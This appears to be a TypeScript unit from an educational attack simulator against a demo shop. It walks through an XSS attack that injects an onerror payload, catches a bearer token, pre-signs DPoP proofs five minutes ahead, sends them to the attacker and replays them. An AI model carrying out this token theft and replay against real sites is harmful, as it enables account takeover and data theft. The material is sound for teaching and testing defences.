/** Script in the page makes proofs of possession for later, and sends them home with the token. Not: a copy of the key (replay-from-copy.ts). */
import { rfc } from '#sources/sources';
import { bearerFields } from '../shop/bearer';
import { hookFetch } from '../attacker/hook-fetch';
import type { AttackUnit } from '../attacker/attack';

/** Seconds: the attacker uses it then. */
const LATER = 5 * 60;

export default {
  order: 14,
  group: 'script in the page',
  label: 'Proofs made ahead',
  also: ['DPoP', 'pre-generated proof', 'XSS', 'proof of possession'],
  says: 'A script in the page can’t export the page’s key, but it can use it. It catches a token, signs a proof dated five minutes ahead, and sends both home. The attacker uses them five minutes later.',
  grants: ['markup in a page of the shop'],
  sources: [rfc(9449, '11.2'), rfc(10017, '5.1.3')],
  scene: ['log-in', 'read-orders'],
  presupposes: { defences: ['dpop'] },
  assumes: ['The shop requires no nonce in proofs.', 'The token is fresh: it outlives the five minutes.'],
  play: async (hands) => {
    const page = await hands.inject('<img src="x" onerror="sign()">');
    if (!page) return;
    const caught = await hookFetch(hands, page);
    const token = caught.find(({ type }) => type === 'token')?.value;
    if (token === undefined)
      return hands.note('The page’s code passes no token to fetch, so a proof is useless.');
    const ahead = await page.prepareAhead('GET', '/orders', bearerFields(token), LATER);
    await page.sendHome(JSON.stringify(ahead));
    hands.wait(LATER);
    await hands.send('GET', '/orders', ahead);
  },
} satisfies AttackUnit;
